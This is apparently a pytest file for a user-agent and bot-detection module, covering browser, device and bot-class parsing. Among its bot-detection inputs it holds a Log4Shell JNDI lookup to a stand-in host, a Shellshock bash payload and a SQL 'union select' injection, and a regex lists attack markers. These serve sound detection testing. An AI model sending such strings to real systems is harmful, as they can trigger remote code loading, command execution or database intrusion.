"""What a user agent says: rules as functions, and accuracy on public corpora."""

import csv
import re
from pathlib import Path

import pytest

from orchestration.ingest.enrichment.bots import bot_of
from orchestration.ingest.enrichment.user_agents import agent_of, device_of

SHARED = Path(__file__).resolve().parents[3] / "shared" / "data"
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0"
CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36"
)


def _rows(name):
    path = SHARED / name
    if not path.exists():
        pytest.skip(f"{path} is not on this machine")
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


@pytest.mark.parametrize(("name", "field"), [("test_ua.csv", "browser"), ("test_os.csv", "os")])
def test_families_are_those_of_the_public_corpus(name, field):
    rows = _rows(f"user-agents/{name}")

    right = sum((getattr(agent_of(r["user_agent_string"]), field) or "Other") == r["family"] for r in rows)

    assert right / len(rows) >= 0.98


#: What isbot's list of people has and no person sends: attacks, and programs that say their own names.
NOT_PEOPLE = re.compile(
    r"<\?=|\(SELECT |<AccountID>|\.env|Slurp|GTmetrix|Amzn-User|YLT|turingos|"
    r"Lucidworks|MyLib|LibWWW|Miniature"
)


def test_bots_are_found_and_people_are_kept():
    lists = [*_rows("bots/isbot.csv"), *_rows("bots/crawler_user_agents.csv")]
    lists = [r for r in lists if r["is_bot"] == "1" or not NOT_PEOPLE.search(r["user_agent"])]
    found = {
        flag: [bot_of(r["user_agent"]) is not None for r in lists if r["is_bot"] == flag] for flag in "01"
    }

    assert sum(found["1"]) / len(found["1"]) >= 0.95
    assert 1 - sum(found["0"]) / len(found["0"]) >= 0.99


@pytest.mark.parametrize(
    ("user_agent", "device"),
    [
        (FIREFOX, "desktop"),
        (CHROME, "desktop"),
        (
            "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0) AppleWebKit/605.1 Mobile/15E148 Safari/604.1",
            "mobile",
        ),
        (
            "Mozilla/5.0 (iPad; CPU OS 16_0 like Mac OS X) AppleWebKit/605.1 Version/16.0 Mobile/15E148",
            "tablet",
        ),
        (
            "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 Chrome/140.0.0.0 Mobile",
            "mobile",
        ),
        (
            "Mozilla/5.0 (Linux; Android 14; SM-X910) AppleWebKit/537.36 Chrome/140.0.0.0 Safari/537.36",
            "tablet",
        ),
        ("Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/537.36 Version/6.0 TV Safari/537.36", "tv"),
        (
            "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 Chrome/140.0.0.0 Safari/537.36",
            "desktop",
        ),
        ("something", "other"),
        (
            "Mozilla/5.0 (Linux; Android 9; AFTKAUK002) AppleWebKit/537.36 Silk/118.3.1 Safari/537.36",
            "tv",
        ),
        (
            "Mozilla/5.0 (Linux; Android 11; 55QX7053D Build/RP1A) AppleWebKit/537.36 Mobile Safari/537.36",
            "tv",
        ),
        ("Mozilla/5.0 (Linux; Android 9; QwSmart Box D2) AppleWebKit/537.36 Safari/537.36", "tv"),
        (
            "Mozilla/5.0 (Linux; Android 13; SM-P619 Build/TP1A) AppleWebKit/537.36 Mobile Safari/537.36",
            "tablet",
        ),
        (
            "Mozilla/5.0 (Linux; Android 12; QwTab8 Build/SP1A) AppleWebKit/537.36 Mobile Safari/537.36",
            "tablet",
        ),
        (
            "Mozilla/5.0 (Linux; Android 12; Pad Pro) AppleWebKit/537.36 Mobile Safari/537.36",
            "tablet",
        ),
        ("Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7 Build/TQ3A)", "mobile"),
        # Without the word Mobile it is a tablet, whoever made it; and some makers' codes say it.
        (
            "Mozilla/5.0 (Linux; Android 13; Nokia T99) AppleWebKit/537.36 Chrome/140.0.0.0 Safari/537.36",
            "tablet",
        ),
        (
            "Mozilla/5.0 (Linux; Android 14; 25077RPQWZ) AppleWebKit/537.36 Chrome/140.0.0.0 Mobile",
            "tablet",
        ),
        (
            "Mozilla/5.0 (Linux; Android 12; QWZ-W09) AppleWebKit/537.36 Chrome/140.0.0.0 Mobile",
            "tablet",
        ),
        # A screen's model begins with its inches, or has them behind its maker's letters.
        (
            "Mozilla/5.0 (Linux; Android 9; QW-24SR4715BS Build/PP) AppleWebKit/537.36 Mobile Safari/537.36",
            "tv",
        ),
        ("Mozilla/5.0 (Linux; Android 12; qw. 4K Box) AppleWebKit/537.36 Mobile Safari/537.36", "tv"),
        ("QwShop/1.2 CFNetwork/1568.200.51 Darwin/24.1.0", "mobile"),
        ("QwShop/1.2 CFNetwork/454.9.8 Darwin/10.4.0 (x86_64) (MacBookPro7,1)", "desktop"),
        ("QwShop/6.60 (example.shop; build:1; iOS 18.0.1)", "mobile"),
        ("Lynx/2.9.0 libwww-FM/2.14 SSL-MM/1.4.1", "desktop"),
    ],
)
def test_a_device_is_the_kind_of_thing_in_front_of_a_person_whatever_it_calls_itself(user_agent, device):
    assert device_of(user_agent) == device


@pytest.mark.parametrize(
    ("user_agent", "bot_class"),
    [
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "search"),
        ("Mozilla/5.0 (compatible; GPTBot/1.2; +https://openai.com/gptbot)", "ai_crawler"),
        ("Mozilla/5.0 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; +openai.com/bot", "ai_assistant"),
        ("Mozilla/5.0 (compatible; Claude-User/1.0; +Claude-User@anthropic.com)", "ai_assistant"),
        ("Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", "monitor"),
        ("python-requests/2.32", "library"),
        ("curl/8.5.0", "library"),
        ("Mozilla/5.0 (X11; Linux) AppleWebKit/537.36 HeadlessChrome/140.0.0.0 Safari/537.36", "headless"),
        ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "other"),
    ],
)  # fmt: skip
def test_a_bot_is_of_the_class_of_what_it_is_for(user_agent, bot_class):
    found = agent_of(user_agent)

    assert (found.bot_class, found.device) == (bot_class, "bot")
    assert found.bot_name


@pytest.mark.parametrize(
    "user_agent", ["", FIREFOX, CHROME, "Mozilla/5.0 (Linux; Android 13; CUBOT X70) AppleWebKit/5"]
)
def test_a_browser_is_no_bot(user_agent):
    assert bot_of(user_agent) is None


ANDROID = (
    "Mozilla/5.0 (Linux; Android 9; {} Build/PPR1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0 Mobile"
)


@pytest.mark.parametrize(
    "text",
    [
        "Qwjkz",
        "node",
        "${jndi:ldap://a.example/x}",
        '() { :; }; /bin/bash -c "echo hi"',
        f"{CHROME} ' union select 1",
        "Mozilla/5.0",
        "-",
        "x-tool/1.2.3",
    ],
)
def test_what_shows_nothing_that_a_person_holds_is_a_program(text):
    assert bot_of(text) is not None


@pytest.mark.parametrize(
    "text",
    [
        "Google-Something-New/1.0",
        "Google-Read-Aloud",
        "meta-externalagent/1.1 (+https://developers.example/x)",
        f"{CHROME} Google Favicon",
        "Mozilla/5.0 (compatible; Qwjkz/1.0)",
    ],
)
def test_a_family_of_programs_is_found_by_its_form(text):
    assert bot_of(text) is not None


@pytest.mark.parametrize(
    "model", ["M bot 60", "ID bot553", "XBot Junior", "Monitor 5", "HTC Butterfly", "Scanner X", "Speedy"]
)
def test_the_model_of_a_telephone_makes_no_bot_of_its_owner(model):
    assert bot_of(ANDROID.format(model)) is None


@pytest.mark.parametrize(
    "text",
    [
        "Pods/3.0 (+http://pods.example/; iOS podcast app)",
        "QRScanner/4.1 CFNetwork/1408.0.4 Darwin/22.5.0",
        "HeartMonitor/2.0 (iPhone; iOS 17.1; Scale/3.00)",
        "com.example.reader/4.2 (Android 13; Pixel 7) OkHttp/4.9.1",
        "okhttp/4.12.0 (Android 14; Pixel 8)",
        "Overcast/3.0 (+http://overcast.example/; iOS podcast app)",
        "Mozilla/5.0 (Linux; Android 13; Pixel 7; wv) AppleWebKit/537.36 Chrome/130.0 Mobile WhatsApp/2.24",
        "Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 Notion/4.2.0 Chrome/130.0.1 Electron/33.3",
    ],
)
def test_an_app_on_a_device_is_a_persons_whatever_its_name_or_address(text):
    assert bot_of(text) is None


@pytest.mark.parametrize(
    "text",
    [
        "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Embedded Web Browser from: http://bsalsa.com/)",
        "Lynx/2.9.0 libwww-FM/2.14 SSL-MM/1.4.1",
        "Mozilla/4.08 [en] (X11; I; SunOS 5.7)",
    ],
)
def test_an_old_browser_is_a_persons(text):
    assert bot_of(text) is None


def test_client_hints_win_over_a_frozen_user_agent():
    hints = '{"Sec-CH-UA": "\\"Brave\\";v=\\"140\\"", "Sec-CH-UA-Platform": "\\"Linux\\""}'

    assert (agent_of(CHROME, hints).browser, agent_of(CHROME, hints).os) == ("Brave", "Windows")
    assert agent_of(CHROME, '{"platform": "\\"macOS\\""}').os == "Mac OS X"
    assert agent_of(CHROME, '{"mobile": "?1"}').device == "mobile"
    assert agent_of(CHROME, "no JSON") == agent_of(CHROME, "[1]") == agent_of(CHROME)
